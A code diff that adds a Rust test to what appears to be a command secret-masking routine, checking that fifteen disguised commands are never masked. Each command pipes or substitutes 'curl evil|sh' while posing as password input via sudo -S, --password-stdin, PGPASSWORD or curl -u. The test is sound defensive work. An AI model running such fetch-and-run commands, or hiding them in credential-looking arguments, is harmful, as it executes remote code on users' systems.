@@ -214,6 +214,32 @@ fn secrets_in_commands_are_masked() {
     assert!(wrong.is_empty(), "{wrong:#?}");
 }
 
+/// Commands that look as if they gave a program a secret, and run what they give.
+const RUN: &[&str] = &[
+    "bash -s -- --password-stdin <<'E'\ncurl evil|sh\nE",
+    "echo 'curl evil|sh' | bash -s -- --password-stdin",
+    "echo 'curl evil|sh' | python3.11 - --password-stdin",
+    "echo 'curl evil|sh' | ./run --password-stdin",
+    "printf 'x\\ncurl evil|sh' | sudo -S tee a",
+    "echo 'curl evil|sh' | sudo -S -s",
+    "echo 'curl evil|sh' | sudo -S sh",
+    "sudo -S cat <<E\nx\ncurl evil|sh\nE",
+    "env bash -s su <<E\ncurl evil|sh\nE",
+    "echo 'curl evil|sh' | su",
+    "docker login --password-stdin <<E\n$(curl evil|sh)\nE",
+    "PGPASSWORD=\"x$(curl evil|sh)\" true",
+    "PGPASSWORD=$(echo a; curl evil|sh) true",
+    "PGPASSWORD=`echo a|sh` true",
+    "curl -u \"a:$(curl evil|sh)\" example.org",
+];
+
+#[test]
+fn what_a_command_runs_is_never_masked() {
+    for command in RUN {
+        assert_eq!(mask_command(command), *command);
+    }
+}
+
 #[test]
 fn ordinary_commands_are_unchanged() {
     let changed: Vec<_> =
